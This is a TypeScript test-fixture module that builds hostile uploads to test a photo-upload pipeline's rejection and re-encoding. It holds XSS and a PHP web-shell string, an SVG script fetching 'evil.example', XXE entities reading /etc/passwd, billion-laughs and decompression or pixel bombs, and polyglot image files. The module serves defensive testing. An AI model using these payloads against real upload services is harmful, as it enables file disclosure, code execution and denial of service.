import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import type { BadPhotoReason } from '#server/platform/images/photo.ts';

/** A file uploaded by an attacker, by a faulty phone or by mistake. */
export interface HostileFile {
  name: string;
  bytes: Uint8Array;
  /** `accepted`: the program must re-encode the image, which loses its payload */
  expected: 'accepted' | BadPhotoReason;
}

/** Strings in the metadata or after the image. The program's output must contain none of them. */
export const PAYLOADS = ['<script>', '<?php', 'SECRET-CAMERA', 'GPSLatitude'] as const;

const SCRIPT = Buffer.from('<script>alert(1)</script><?php system($_GET[0]);?>');

/** Creates a photo as a phone takes it: with camera and GPS tags, stored sideways. */
export function phonePhoto({ width = 1600, height = 1200 } = {}): Promise<Buffer> {
  return noise(width, height)
    .withExif({
      IFD0: { Make: 'SECRET-CAMERA', Model: 'SECRET-CAMERA' },
      IFD2: { UserComment: SCRIPT.toString() },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '29/1 45/1 3012/100',
        GPSLongitudeRef: 'W',
        GPSLongitude: '95/1 22/1 1234/100',
      },
    })
    .withMetadata({ orientation: 6 })
    .jpeg({ quality: 85 })
    .toBuffer();
}

function noise(width: number, height: number) {
  return sharp({
    create: { width, height, channels: 3, background: '#808080', noise: { type: 'gaussian', mean: 128, sigma: 20 } },
  });
}

let made: Promise<readonly HostileFile[]> | undefined;

/** Creates the files once per process, because that takes seconds. */
export function hostileFiles(): Promise<readonly HostileFile[]> {
  made ??= makeHostileFiles();
  return made;
}

async function makeHostileFiles(): Promise<HostileFile[]> {
  const photo = await phonePhoto();
  return [
    ...wrongFiles(),
    ...(await otherFormats()),
    ...brokenFiles(photo),
    ...(await bombs()),
    ...(await carriers(photo)),
  ];
}

/** Returns files that aren't images, or not in the format they claim. */
function wrongFiles(): HostileFile[] {
  const texts: Record<string, string> = {
    'html as png': '<!doctype html><script>alert(1)</script>',
    'pdf as jpeg': '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>',
    'elf as jpeg': '\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0>\0',
    'zip as webp': 'PK\x03\x04\x14\0\0\0\x08\0',
    'svg with script': svg(
      '<script>fetch("http://evil.example")</script><rect width="9" height="9" onload="alert(1)"/>',
    ),
    'svg reading a file': svg('<image width="9" height="9" xlink:href="file:///etc/passwd"/>'),
    'svg with external entity': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
    'svg with billion laughs': `<!DOCTYPE svg [${laughs()}]>${svg('<text>&a9;</text>')}`,
    'svg nested 200,000 deep': svg('<g>'.repeat(200_000) + '</g>'.repeat(200_000)),
    'two bytes': '\xff\xd8',
    'jpeg magic and nothing': '\xff\xd8\xff\xe0',
  };
  const wrong = Object.entries(texts).map(([name, text]) =>
    file(name, Buffer.from(text, 'latin1'), name === 'jpeg magic and nothing' ? 'damaged' : 'unreadable'),
  );
  return [
    ...wrong,
    file('empty', Buffer.alloc(0), 'unreadable'),
    file('26 MB', Buffer.alloc(26_000_000, 0xff), 'too_large'),
  ];
}

/** Returns real images in formats that the program doesn't accept. */
async function otherFormats(): Promise<HostileFile[]> {
  const frames = 300;
  const strip = Buffer.alloc(32 * 32 * frames * 4);
  for (let at = 0; at < strip.length; at += 1) strip[at] = at % 4 === 3 ? 255 : (at * 31) >> 9;
  const gif = sharp(strip, { raw: { width: 32, height: 32 * frames, channels: 4, pageHeight: 32 } }).gif({ effort: 1 });
  const heic = Buffer.from('\0\0\0\x18ftypheic\0\0\0\0heicmif1', 'latin1');
  return [
    file('gif of 300 frames', await gif.toBuffer(), 'unreadable'),
    file('tiff', await noise(64, 64).tiff().toBuffer(), 'unreadable'),
    file('avif', await noise(64, 64).avif({ effort: 0 }).toBuffer(), 'unreadable'),
    file('heic', heic, 'heic'),
  ];
}

function brokenFiles(photo: Buffer): HostileFile[] {
  const flipped = Buffer.from(photo);
  // Starts after the headers, so it damages only the image data.
  for (let at = 4096; at < flipped.length - 2; at += 37) flipped[at] = 0xff;
  return [
    file('jpeg cut after 1 KB', photo.subarray(0, 1024), 'damaged'),
    file('jpeg cut in half', photo.subarray(0, photo.length >> 1), 'damaged'),
    file('jpeg without its last 2 KB', photo.subarray(0, photo.length - 2048), 'damaged'),
    // Decoders fill gaps with gray, as for a faulty memory card. The output is still a file that the program
    // encoded.
    file('jpeg with garbage inside', flipped, 'accepted'),
    file('png cut in half', png(500, 500, { level: 0 }).subarray(0, 300_000), 'damaged'),
    file('png without data', Buffer.concat([PNG_SIGNATURE, ihdr(10, 10, 8, 2), chunk('IEND')]), 'damaged'),
    file('png of no width', Buffer.concat([PNG_SIGNATURE, ihdr(0, 10, 8, 2), chunk('IEND')]), 'damaged'),
  ];
}

/** Returns small files that claim to be huge, or that decompress to something huge. */
async function bombs(): Promise<HostileFile[]> {
  const inflating = Buffer.concat([Buffer.from('a\0\0'), deflateSync(Buffer.alloc(200 * 1024 * 1024), { level: 6 })]);
  const oneBit = deflateSync(Buffer.alloc(3751 * 30_000), { level: 6 });
  return [
    file('png 30000x30000, 1 bit', pngOf(ihdr(30_000, 30_000, 1, 0), chunk('IDAT', oneBit)), 'too_many_pixels'),
    file('png 30000x30000, rgb', pngOf(ihdr(30_000, 30_000, 8, 2), chunk('IDAT', oneBit)), 'too_many_pixels'),
    file('webp 16000x16000 in a few bytes', await hugeWebp(), 'too_many_pixels'),
    file('progressive jpeg 16000x16000', await resizedHeader(16_000), 'too_many_pixels'),
    file('jpeg 65500x65500', await resizedHeader(65_500), 'too_many_pixels'),
    file('png 1x60000000', pngOf(ihdr(1, 60_000_000, 8, 2), chunk('IDAT', oneBit)), 'too_long'),
    file('png 20001x1', pngOf(ihdr(20_001, 1, 8, 2), chunk('IDAT', oneBit)), 'too_long'),
    file('png with a 200 MB text', png(10, 10, { extra: chunk('zTXt', inflating) }), 'accepted'),
    file('png with a 200 MB colour profile', png(10, 10, { extra: chunk('iCCP', inflating) }), 'accepted'),
    file('jpeg of 2000 scans', await manyScans(), 'damaged'),
  ];
}

/** Returns valid images that also contain something else, such as a script. */
async function carriers(photo: Buffer): Promise<HostileFile[]> {
  const comment = chunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), SCRIPT]));
  return [
    file('phone photo with GPS', photo, 'accepted'),
    file('jpeg with html behind it', Buffer.concat([photo, SCRIPT]), 'accepted'),
    file('png with php in a comment', png(10, 10, { extra: comment }), 'accepted'),
    file(
      'png with a second file behind it',
      Buffer.concat([png(10, 10), Buffer.from('PK\x03\x04'), SCRIPT]),
      'accepted',
    ),
    file('cmyk jpeg', await noise(200, 100).toColourspace('cmyk').jpeg().toBuffer(), 'accepted'),
    file('16-bit grey png with alpha', await deepGrey(), 'accepted'),
    file('webp with exif', await sharp(photo).keepExif().webp().toBuffer(), 'accepted'),
  ];
}

function file(name: string, bytes: Uint8Array, expected: HostileFile['expected']): HostileFile {
  return { name, bytes, expected };
}

function svg(body: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">${body}</svg>`;
}

function laughs(): string {
  let entities = '<!ENTITY a0 "aaaaaaaaaa">';
  for (let level = 1; level < 10; level += 1) entities += `<!ENTITY a${level} "${`&a${level - 1};`.repeat(10)}">`;
  return entities;
}

const PNG_SIGNATURE = Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]);

function chunk(type: string, data: Uint8Array = Buffer.alloc(0)): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const out = Buffer.alloc(body.length + 8);
  out.writeUInt32BE(data.length, 0);
  body.copy(out, 4);
  out.writeUInt32BE(crc32(body), body.length + 4);
  return out;
}

function ihdr(width: number, height: number, bits: number, colourType: number): Buffer {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  data[8] = bits;
  data[9] = colourType;
  return chunk('IHDR', data);
}

function pngOf(...chunks: Buffer[]): Buffer {
  return Buffer.concat([PNG_SIGNATURE, ...chunks, chunk('IEND')]);
}

function png(
  width: number,
  height: number,
  { extra = Buffer.alloc(0), level = 6 }: { extra?: Buffer; level?: number } = {},
): Buffer {
  const rows = deflateSync(Buffer.alloc(height * (1 + width * 3)), { level });
  return pngOf(ihdr(width, height, 8, 2), extra, chunk('IDAT', rows));
}

function deepGrey(): Promise<Buffer> {
  return noise(80, 60).toColourspace('grey16').ensureAlpha(0.5).png().toBuffer();
}

/** Raises the 14-bit sizes in the header. A lossless WebP of one color needs no data per pixel. */
async function hugeWebp(): Promise<Buffer> {
  const bytes = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#888888' } })
    .webp({ lossless: true })
    .toBuffer();
  const at = bytes.indexOf('VP8L') + 9;
  bytes.writeUInt32LE(((bytes.readUInt32LE(at) & 0xf0000000) | (15_999 << 14) | 15_999) >>> 0, at);
  return bytes;
}

/** Creates a progressive JPEG whose header claims another size. */
async function resizedHeader(side: number): Promise<Buffer> {
  const bytes = await noise(64, 64).jpeg({ progressive: true }).toBuffer();
  const frame = bytes.indexOf(Buffer.from([0xff, 0xc2]));
  bytes.writeUInt16BE(side, frame + 5);
  bytes.writeUInt16BE(side, frame + 7);
  return bytes;
}

/** Repeats the last scan of a progressive JPEG many times. Each scan makes decoders process the whole image again. */
async function manyScans(): Promise<Buffer> {
  const bytes = await sharp({ create: { width: 4000, height: 4000, channels: 3, background: '#888888' } })
    .jpeg({ progressive: true })
    .toBuffer();
  const lastScan = bytes.subarray(bytes.lastIndexOf(Buffer.from([0xff, 0xda])), bytes.length - 2);
  return Buffer.concat([
    bytes.subarray(0, -2),
    ...Array.from({ length: 2000 }, () => lastScan),
    Buffer.from([0xff, 0xd9]),
  ]);
}
